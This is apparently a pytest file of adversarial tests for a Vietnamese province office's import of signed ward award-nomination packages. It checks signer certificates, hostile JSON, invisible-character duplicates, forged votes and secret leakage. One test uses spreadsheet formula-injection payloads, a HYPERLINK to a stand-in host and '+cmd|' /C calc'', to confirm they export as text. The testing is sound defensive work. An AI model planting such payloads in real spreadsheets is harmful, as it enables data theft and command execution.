"""Adversarial review of issue #14's province office: what a dishonest ward, a careless
secretary or a second workstation can do to the import, and that each attempt is refused with a
Vietnamese message naming the ward (or cannot change the ranking)."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
from pathlib import Path

import pytest
from pki import TestCA
from province_office import province_db
from province_packages import Person, TestPki, ward_package, write_ward_package
from sqlalchemy import func, select

from bdhvs_desktop.documents import package_format as pf
from bdhvs_desktop.services import province
from bdhvs_desktop.services import province_views as pv
from bdhvs_desktop.storage import province_models as pm


@pytest.fixture(scope="module")
def ca():
    return TestCA.create("CA thử nghiệm của tỉnh")


def _pki(ca: TestCA, folder: Path, office: str, **issue) -> TestPki:
    from cryptography.hazmat.primitives import serialization

    folder.mkdir(parents=True, exist_ok=True)
    p12 = ca.pkcs12(folder / f"{hashlib.sha1(office.encode()).hexdigest()[:8]}.p12", office, b"matkhau", org=office,
                    **issue)
    pem = ca.cert.public_bytes(serialization.Encoding.PEM)
    return TestPki(pem, p12, b"matkhau", pem)


@pytest.fixture
def office(tmp_path):
    db = province_db(tmp_path / "tinh.sqlite3")
    yield db
    db.dispose()


def _packages(db) -> int:
    with db.read() as s:
        return s.scalar(select(func.count()).select_from(pm.WardPackage))


# ------------------------------------------------------------------------ who signed it


def test_a_package_signed_by_another_wards_certificate_is_refused(office, ca, tmp_path):
    """La Gi's office (a valid certificate of the province's CA) signs a package that says it is
    Tân An's: the signature is intact and trusted, but the signer is not the ward the package claims."""
    lagi = _pki(ca, tmp_path / "lagi", "UBND phường La Gi")
    data, docs = ward_package("P-TANAN", "Phường Tân An", n=3, seed=2)
    forged = write_ward_package(tmp_path / "tanan.bdhvs-goi", data, docs, pki=lagi)
    out = province.import_packages(office, [forged], trust_roots=[lagi.ca_pem]).outcomes[0]
    assert not out.imported, out.message
    assert "Phường Tân An" in out.message and "UBND phường La Gi" in out.message, out.message
    assert _packages(office) == 0
    # the same ward's own certificate is accepted (the check is not simply "refuse everything")
    tanan = _pki(ca, tmp_path / "tanan", "Ủy ban nhân dân phường Tân An")
    genuine = write_ward_package(tmp_path / "tanan-ok.bdhvs-goi", data, docs, pki=tanan)
    ok = province.import_packages(office, [genuine], trust_roots=[tanan.ca_pem]).outcomes[0]
    assert ok.imported, ok.message


def test_a_pdf_signed_by_another_ward_inside_a_genuine_package_is_refused(office, ca, tmp_path):
    """The manifest is signed by the ward, but the Tờ trình PDF inside carries another ward's signature."""
    from province_packages import sign_pdfs, signer_config

    lagi = _pki(ca, tmp_path / "lagi", "UBND phường La Gi")
    tanan = _pki(ca, tmp_path / "tanan", "UBND phường Tân An")
    data, docs = ward_package("P-TANAN", "Phường Tân An", n=2, seed=2)
    docs = sign_pdfs(docs, data, lagi)  # the PDFs the data declares signed by the office: by La Gi's
    path = tmp_path / "mixed.bdhvs-goi"
    pf.write_package(path, data, docs, signer=signer_config(tanan))
    out = province.import_packages(office, [path], trust_roots=[tanan.ca_pem]).outcomes[0]
    assert not out.imported and "UBND phường La Gi" in out.message and "01-to-trinh.pdf" in out.message, out.message


def test_a_ward_code_already_used_by_another_ward_is_refused(office, ca, tmp_path):
    """La Gi sends a package with Tân An's ward code (and its own name and certificate): it must
    not land in Tân An's scope; nor may a second code for a ward already imported split it in two."""
    tanan = _pki(ca, tmp_path / "tanan", "UBND phường Tân An")
    lagi = _pki(ca, tmp_path / "lagi", "UBND phường La Gi")
    data, docs = ward_package("P-TANAN", "Phường Tân An", n=2, seed=2)
    first = province.import_packages(office, [write_ward_package(tmp_path / "a.bdhvs-goi", data, docs, pki=tanan)],
                                     trust_roots=[ca.der]).outcomes[0]
    assert first.imported, first.message
    data, docs = ward_package("P-TANAN", "Phường La Gi", n=2, seed=5)
    out = province.import_packages(office, [write_ward_package(tmp_path / "b.bdhvs-goi", data, docs, pki=lagi)],
                                   trust_roots=[ca.der]).outcomes[0]
    assert not out.imported and "P-TANAN" in out.message and "Phường Tân An" in out.message, out.message
    data, docs = ward_package("P-TANAN2", "Phường Tân An", n=2, seed=7)
    out = province.import_packages(office, [write_ward_package(tmp_path / "c.bdhvs-goi", data, docs, pki=tanan)],
                                   trust_roots=[ca.der]).outcomes[0]
    assert not out.imported and "P-TANAN" in out.message, out.message
    assert [w.code for w in pv.list_wards(office)] == ["P-TANAN"]


@pytest.mark.parametrize("what", ["expired"])  # a not-yet-valid one: pyHanko refuses to sign with it
def test_a_certificate_outside_its_validity_is_refused(office, ca, tmp_path, what):
    now = dt.datetime.now(dt.UTC)
    start = now - dt.timedelta(days=400)
    pki = _pki(ca, tmp_path / what, "UBND phường La Gi", days=30, not_before=start)
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=2, seed=1)
    path = write_ward_package(tmp_path / f"{what}.bdhvs-goi", data, docs, pki=pki)
    out = province.import_packages(office, [path], trust_roots=[ca.der]).outcomes[0]
    assert not out.imported and "Phường La Gi" in out.message and "hiệu lực" in out.message, out.message


def _p12_with_usage(ca: TestCA, path: Path, office: str, usage: dict, eku=None) -> TestPki:
    """A certificate of the trusted CA whose key usage (and extended key usage) is `usage`/`eku`."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.hazmat.primitives.serialization import pkcs12
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    now = dt.datetime.now(dt.UTC)
    flags = dict(digital_signature=False, content_commitment=False, key_encipherment=False, data_encipherment=False,
                 key_agreement=False, key_cert_sign=False, crl_sign=False, encipher_only=False, decipher_only=False)
    builder = (x509.CertificateBuilder()
               .subject_name(x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, office),
                                        x509.NameAttribute(NameOID.COMMON_NAME, office)]))
               .issuer_name(ca.cert.subject).public_key(key.public_key()).serial_number(x509.random_serial_number())
               .not_valid_before(now - dt.timedelta(hours=1)).not_valid_after(now + dt.timedelta(days=30))
               .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
               .add_extension(x509.KeyUsage(**(flags | usage)), critical=True))
    if eku:
        builder = builder.add_extension(x509.ExtendedKeyUsage(eku), critical=True)
    cert = builder.sign(ca.key, hashes.SHA256())
    path.write_bytes(pkcs12.serialize_key_and_certificates(b"s", key, cert, [ca.cert],
                                                           serialization.BestAvailableEncryption(b"matkhau")))
    pem = ca.cert.public_bytes(serialization.Encoding.PEM)
    return TestPki(pem, path, b"matkhau", pem)


@pytest.mark.parametrize("what", ["encipherment_only", "server_auth_only"])
def test_a_certificate_not_for_signing_documents_is_refused(office, ca, tmp_path, what):
    """A trusted CA's certificate for encryption (key usage keyEncipherment) or for a TLS server
    (extended key usage serverAuth only) does not sign the ward's documents."""
    from cryptography.x509.oid import ExtendedKeyUsageOID

    if what == "encipherment_only":
        pki = _p12_with_usage(ca, tmp_path / "enc.p12", "UBND phường La Gi", {"key_encipherment": True})
    else:
        pki = _p12_with_usage(ca, tmp_path / "tls.p12", "UBND phường La Gi",
                              {"digital_signature": True, "content_commitment": True},
                              [ExtendedKeyUsageOID.SERVER_AUTH])
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=2, seed=1)
    try:
        path = write_ward_package(tmp_path / f"{what}.bdhvs-goi", data, docs, pki=pki)
    except Exception as exc:  # noqa: BLE001 - a signer that refuses such a key is fine too
        pytest.skip(f"the signer itself refuses this certificate: {exc}")
    out = province.import_packages(office, [path], trust_roots=[ca.der]).outcomes[0]
    assert not out.imported and "Phường La Gi" in out.message, out.message


# ------------------------------------------------------------------------ hostile package.json


def _rebuilt(tmp_path: Path, name: str, data_bytes: bytes) -> Path:
    """A canonical package whose package.json is `data_bytes`, the manifest's hashes recomputed
    (unsigned: what a hostile ward can always make)."""
    data, _docs = ward_package("P-LAGI", "Phường La Gi", n=1, with_docs=False)
    return _recomposed(tmp_path, name, data, data_bytes=data_bytes)


@pytest.mark.parametrize("payload", [
    pytest.param(b"[" * 200000 + b"]" * 200000, id="deep-nesting"),
    pytest.param(b'{"schema_version": ' + b"9" * 5000 + b"}", id="huge-integer"),
])
def test_hostile_json_is_refused_not_a_crash(office, tmp_path, payload):
    """A package.json nested 200,000 deep or with a 5,000-digit number: that package is refused with a
    message, and the other packages of the same import still go in."""
    bad = _rebuilt(tmp_path, "hostile.bdhvs-goi", payload)
    data, docs = ward_package("P-TANAN", "Phường Tân An", n=1, with_docs=False)
    good = write_ward_package(tmp_path / "good.bdhvs-goi", data, docs)
    report = province.import_packages(office, [bad, good], trust_roots=())
    first, second = report.outcomes
    assert not first.imported and "package.json" in first.message and "bị từ chối" in first.message, first.message
    assert second.imported, second.message


# ------------------------------------------------------------------------ the same person twice


HOA = Person("Nguyễn Thị Hoà", "068196799101", dt.date(1990, 4, 5), female=True)


@pytest.mark.parametrize("hidden", ["\u200b", "\u202e", "\u2060", "\ufeff", "\u00ad"])
def test_invisible_characters_do_not_hide_the_same_person(office, tmp_path, hidden):
    """Tân An proposes her without CCCD and with an invisible character (zero-width space, a bidi
    override, a word joiner, a BOM, a soft hyphen) in her name: still found as proposed by two wards,
    and the name stored and shown has no invisible character."""
    masked = Person(f"Nguyễn Thị{hidden} Hoà", None, HOA.birth_date, female=True)
    for code, name, person, seed in (("P-LAGI", "Phường La Gi", HOA, 1), ("P-TANAN", "Phường Tân An", masked, 2)):
        data, docs = ward_package(code, name, n=2, seed=seed, people=[person], with_docs=False)
        assert province.import_packages(office, [write_ward_package(tmp_path / f"{code}.bdhvs-goi", data, docs)],
                                        trust_roots=()).outcomes[0].imported
    found = [d for d in pv.duplicates(office) if {e.ward_code for e in d.entries} == {"P-LAGI", "P-TANAN"}]
    assert len(found) == 1, [d.reason for d in pv.duplicates(office)]
    assert all(hidden not in c.name for c in pv.ward_candidates(office, "P-TANAN"))


def test_a_ward_proposing_the_same_person_again_is_refused(office, tmp_path):
    """A ward re-sends a person (same CCCD) under a new candidate key in a new package: refused, naming
    the earlier package, so the ranking never counts her twice; so is one package with her twice."""
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=2, seed=1, people=[HOA], with_docs=False)
    first = province.import_packages(office, [write_ward_package(tmp_path / "a.bdhvs-goi", data, docs)],
                                     trust_roots=()).outcomes[0]
    assert first.imported, first.message
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=2, seed=8, people=[HOA], with_docs=False)
    data["candidates"][0]["key"] = "P-HOA-SUA-LAI"
    for meeting in data["council"]["meetings"]:
        for vote in meeting["votes"]:
            if vote["candidate"] == f"P-{HOA.cccd}":
                vote["candidate"] = "P-HOA-SUA-LAI"
    data["proposal"]["submissions"][0]["candidates"][0] = "P-HOA-SUA-LAI"
    again = province.import_packages(office, [write_ward_package(tmp_path / "b.bdhvs-goi", data, docs)],
                                     trust_roots=()).outcomes[0]
    assert not again.imported and HOA.name in again.message and "a.bdhvs-goi" in again.message, again.message
    assert len([c for c in pv.ward_candidates(office, "P-LAGI") if c.name == HOA.name]) == 1
    # one package naming her twice (two keys, one CCCD)
    data, docs = ward_package("P-TANAN", "Phường Tân An", n=3, seed=3, people=[HOA, HOA], with_docs=False)
    data["candidates"][1]["key"] = "P-HOA-2"
    twice = province.import_packages(office, [write_ward_package(tmp_path / "c.bdhvs-goi", data, docs)],
                                     trust_roots=()).outcomes[0]
    assert not twice.imported and HOA.name in twice.message and "hai lần" in twice.message, twice.message


# ------------------------------------------------------------------------ figures the facts do not back


def test_a_claimed_score_does_not_rank(office, tmp_path):
    """The ward writes 100 points (ward and province level) for a candidate whose facts are weak: the
    province ranks from the facts, so the claim moves nothing."""
    weak = Person("Lê Văn Yếu", "068190000001", dt.date(1980, 1, 1), people_guided=0, solutions=0, guidance=0)
    strong = Person("Phạm Thị Mạnh", "068190000002", dt.date(1981, 1, 1), female=True, people_guided=80,
                    solutions=3, guidance=12)
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=2, seed=1, people=[weak, strong], with_docs=False)
    honest = {r.key: r.points for r in _rank_of(office, tmp_path, data, docs, "honest")}
    data["candidates"][0]["ward_score"] = {"level": "ward", "eligible": True, "points": 100.0, "max_points": 100.0,
                                           "criteria": []}
    data["candidates"][0]["province_score"] = {"level": "province", "eligible": True, "points": 100.0,
                                               "max_points": 100.0, "criteria": []}
    forged = {r.key: r.points for r in _rank_of(office, tmp_path, data, docs, "forged")}
    assert forged == honest and forged[f"P-{weak.cccd}"] < forged[f"P-{strong.cccd}"]


def _rank_of(office, tmp_path, data, docs, tag):
    from bdhvs_desktop.services.province_rank import rank

    data = json.loads(json.dumps(data))
    data["ward"]["code"] = data["ward"]["code"] + "-" + tag.upper()
    data["ward"]["name"] = f"Phường La Gi {tag}"
    out = province.import_packages(office, [write_ward_package(tmp_path / f"{tag}.bdhvs-goi", data, docs)],
                                   trust_roots=()).outcomes[0]
    assert out.imported, out.message
    return rank(office, ward=data["ward"]["code"]).rows


def test_ward_votes_that_disagree_with_the_minutes_are_refused(office, tmp_path):
    """The ward's figures for a candidate's votes (what the ranking's tie-break reads) must be the
    votes its council's minutes record, and no more votes than members present."""
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=2, seed=1, with_docs=False)
    key = data["candidates"][0]["key"]
    vote = next(v for v in data["council"]["meetings"][0]["votes"] if v["candidate"] == key)
    vote.update({"for": 5, "against": 4})
    data["candidates"][0]["ward_votes"].update({"for": 9, "against": 0})
    out = province.import_packages(office, [write_ward_package(tmp_path / "votes.bdhvs-goi", data, docs)],
                                   trust_roots=()).outcomes[0]
    assert not out.imported and "phiếu" in out.message and data["candidates"][0]["name"] in out.message, out.message
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=2, seed=1, with_docs=False)
    for meeting in data["council"]["meetings"]:
        for v in meeting["votes"]:
            v.update({"for": 40, "against": 0, "abstain": 0})
    for c in data["candidates"]:
        c["ward_votes"].update({"for": 40, "against": 0, "abstain": 0})
    out = province.import_packages(office, [write_ward_package(tmp_path / "stuffed.bdhvs-goi", data, docs)],
                                   trust_roots=()).outcomes[0]
    assert not out.imported and "phiếu" in out.message, out.message


def _recomposed(tmp_path: Path, name: str, data: dict, manifest_edit=None, data_bytes: bytes | None = None) -> Path:
    """A canonical, unsigned package of `data` (or of package.json `data_bytes`) with the manifest's
    hashes right, its manifest then changed by `manifest_edit` (what a hostile ward can always make)."""
    blob, _info = pf.build_package(data, {})
    members = dict(pf._parse_members(blob))
    if data_bytes is not None:
        members[pf.DATA_MEMBER] = data_bytes
    manifest = json.loads(members[pf.MANIFEST_MEMBER])
    manifest["members"] = [{"path": n, "sha256": hashlib.sha256(b).hexdigest(), "size": len(b)}
                           for n, b in members.items() if n not in (pf.MANIFEST_MEMBER, pf.SIGNATURE_MEMBER)]
    if manifest_edit:
        manifest_edit(manifest)
    members[pf.MANIFEST_MEMBER] = (json.dumps(manifest, ensure_ascii=False, indent=2, sort_keys=True) + "\n").encode()
    path = tmp_path / name
    path.write_bytes(pf._zip_bytes(pf._canonical_members(members.items())))
    return path


def test_the_manifest_and_the_data_must_name_the_same_ward(office, tmp_path):
    """The manifest (what the signer check and the ward's scope read) says Tân An, package.json (the
    ward's Tờ trình data) says La Gi: refused."""
    data, _docs = ward_package("P-LAGI", "Phường La Gi", n=1, with_docs=False)
    path = _recomposed(tmp_path, "names.bdhvs-goi", data,
                       lambda m: m["ward"].update(name="Phường Tân An"))
    out = province.import_packages(office, [path], trust_roots=()).outcomes[0]
    assert not out.imported and "Phường La Gi" in out.message and "Phường Tân An" in out.message, out.message


def test_not_a_number_is_refused(office, tmp_path):
    """JSON has no NaN or Infinity, but Python's parser takes them: a package whose scores or facts
    carry one (which sorts anywhere in a ranking) is refused."""
    data, _docs = ward_package("P-LAGI", "Phường La Gi", n=1, with_docs=False)
    data["candidates"][0]["ward_score"]["points"] = float("nan")
    blob = json.dumps(data, ensure_ascii=False, indent=2, sort_keys=True).encode() + b"\n"
    assert b"NaN" in blob
    path = _rebuilt(tmp_path, "nan.bdhvs-goi", blob)
    out = province.import_packages(office, [path], trust_roots=()).outcomes[0]
    assert not out.imported and "package.json" in out.message, out.message


# ------------------------------------------------------------------------ what leaves the office


def test_a_formula_for_a_name_stays_text_in_the_provinces_excel(office, tmp_path):
    """A ward names a person `=HYPERLINK(…)` and a unit `+cmd|…`: the province's Excel export of the
    people and units it imported writes them as text cells, never formulas."""
    from openpyxl import load_workbook

    from bdhvs_desktop.services.exporter import export

    evil = '=HYPERLINK("http://x.invalid/?"&A2,"Xem")'
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=3, seed=1, with_docs=False,
                              people=[Person(evil, "068190000009", dt.date(1980, 1, 1))])
    data["candidates"][0]["unit_path"] = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
    assert province.import_packages(office, [write_ward_package(tmp_path / "f.bdhvs-goi", data, docs)],
                                    trust_roots=()).outcomes[0].imported
    out = tmp_path / "xuat.xlsx"
    export(office, ["people", "units"], out)
    cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value[:1] in "=+@-"]
    assert {c.value for c in cells} >= {evil, "+cmd|' /C calc'!A0"}, [c.value for c in cells]
    assert all(c.data_type == "s" for c in cells)


def test_a_wrong_pin_is_not_repeated_anywhere(tmp_path_factory, caplog):
    """A wrong PIN typed for the ward's token (SoftHSM2): the error says the PIN is wrong without the PIN,
    in its message, its causes, the logs and the signer settings' repr."""
    import logging
    import traceback

    from pki import shared_pki, softhsm_lib

    from bdhvs_desktop.documents import signing

    if softhsm_lib() is None:
        pytest.skip("SoftHSM2 is not installed")
    pki = shared_pki(tmp_path_factory)
    secret = "864209-bi-mat"
    cfg = pki.config(pki.ward, pin=secret)
    caplog.set_level(logging.DEBUG)
    with pytest.raises(signing.SigningError) as info:
        signing.sign_detached(b"manifest", cfg)
    told = "".join(traceback.format_exception(info.value)) + caplog.text + repr(cfg) + str(cfg)
    assert "PIN" in str(info.value) and secret not in told


def test_approving_one_wards_proposal_leaves_the_other_wards(office, tmp_path):
    """The same person (same CCCD, same candidate key) proposed by two wards: the province council
    approves La Gi's and rejects Tân An's; each keeps its own status, person row and unit."""
    from bdhvs_desktop.services import council as cs
    from bdhvs_desktop.storage import models as m

    for code, name, seed in (("P-LAGI", "Phường La Gi", 1), ("P-TANAN", "Phường Tân An", 2)):
        data, docs = ward_package(code, name, n=1, seed=seed, people=[HOA], with_docs=False)
        assert province.import_packages(office, [write_ward_package(tmp_path / f"{code}.bdhvs-goi", data, docs)],
                                        trust_roots=()).outcomes[0].imported
    lagi, tanan = (pv.ward_candidates(office, code)[0] for code in ("P-LAGI", "P-TANAN"))
    assert lagi.candidate_id != tanan.candidate_id
    member = cs.add_member(office, "Phạm Quốc Tỉnh", position="Phó Chủ tịch UBND tỉnh", role="chair")
    meeting = cs.new_meeting(office, dt.datetime(2026, 12, 2, 8), place="Hội trường", number="05/BB-HĐTĐKT",
                             ended_at=dt.datetime(2026, 12, 2, 10))
    cs.record_vote(office, meeting, lagi.candidate_id, 1, 0, 0)
    cs.record_vote(office, meeting, tanan.candidate_id, 0, 1, 0)
    cs.decide(office, meeting)
    status = {c.id: c.status for c in cs.list_candidates(office)}
    assert status[lagi.candidate_id] == "approved" and status[tanan.candidate_id] != "approved", status
    with office.read() as s:
        a, b = s.get(m.Candidate, lagi.candidate_id), s.get(m.Candidate, tanan.candidate_id)
        assert a.person_id != b.person_id
        units = {s.get(m.Person, a.person_id).unit.code, s.get(m.Person, b.person_id).unit.code}
    assert sorted(u.split("/")[0] for u in units) == ["P-LAGI", "P-TANAN"]
    assert member


@pytest.mark.parametrize(("names", "ward", "named"), [
    (("ỦY BAN NHÂN DÂN PHƯỜNG LA GI",), "Phường La Gi", True),
    (("Chứng thư", "UBND P. Tân An"), "Phường Tân An", True),
    (("UBND TT. Liên Nghĩa",), "Thị trấn Liên Nghĩa", True),
    (("UBND Phường 1, Quận 3",), "Phường 1", True),
    (("UBND Phường 12, Quận 3",), "Phường 1", False),
    (("UBND phường Tân An Hội",), "Phường Tân An", False),
    (("UBND xã Tân An",), "Phường Tân An", False),
    (("UBND phường La Gi",), "Phường Tân An", False),
])
def test_which_certificate_names_which_ward(names, ward, named):
    from bdhvs_desktop.services.ward_signer import signer_is_ward

    assert signer_is_ward(names, ward) is named


def test_the_pin_in_the_environment_does_not_reach_libreoffice(tmp_path, monkeypatch):
    """`bdhvs package export` takes the PIN from BDHVS_TOKEN_PIN (or BDHVS_SIGN_PIN, a .p12 password
    from BDHVS_P12_PASSPHRASE / BDHVS_P12_PASSWORD); the LibreOffice it starts to make the PDFs must
    not inherit them (its environment is readable in /proc, and crash reports carry it)."""
    import os
    import subprocess

    from bdhvs_desktop.documents import pdf_convert

    secrets = {"BDHVS_TOKEN_PIN": "111111", "BDHVS_SIGN_PIN": "222222", "BDHVS_P12_PASSPHRASE": "ba-ba-ba",
               "BDHVS_P12_PASSWORD": "bon-bon"}
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    seen = {}

    class Stop(Exception):
        pass

    def fake_popen(cmd, **kwargs):
        seen.update(kwargs)
        raise Stop

    monkeypatch.setattr(subprocess, "Popen", fake_popen)
    (tmp_path / "a.docx").write_bytes(b"x")
    with pytest.raises(Stop):
        pdf_convert.convert_to_pdf([tmp_path / "a.docx"], tmp_path / "out", soffice="/bin/true")
    env = seen.get("env")
    assert env is not None and not set(secrets) & set(env) and env.get("PATH") == os.environ.get("PATH")


def test_a_ward_proposing_the_same_collective_again_is_refused(office, tmp_path):
    """A collective (the same unit, same kind, same award form) re-sent under a new key in a later package."""
    data, docs = ward_package("P-LAGI", "Phường La Gi", n=3, seed=1, with_docs=False)
    unit = next(c for c in data["candidates"] if c["subject_type"] == "unit")
    assert province.import_packages(office, [write_ward_package(tmp_path / "a.bdhvs-goi", data, docs)],
                                    trust_roots=()).outcomes[0].imported
    again, docs = ward_package("P-LAGI", "Phường La Gi", n=1, seed=4, with_docs=False)
    old_key, new_key = again["candidates"][0]["key"], "U-MOI-1"
    copy = json.loads(json.dumps(unit)) | {"key": new_key, "ward_votes": again["candidates"][0]["ward_votes"]}
    again["candidates"][0] = copy
    for meeting in again["council"]["meetings"]:
        for vote in meeting["votes"]:
            vote["candidate"] = new_key if vote["candidate"] == old_key else vote["candidate"]
    again["proposal"]["submissions"][0]["candidates"] = [new_key]
    out = province.import_packages(office, [write_ward_package(tmp_path / "b.bdhvs-goi", again, docs)],
                                   trust_roots=()).outcomes[0]
    assert not out.imported and unit["name"] in out.message and "a.bdhvs-goi" in out.message, out.message
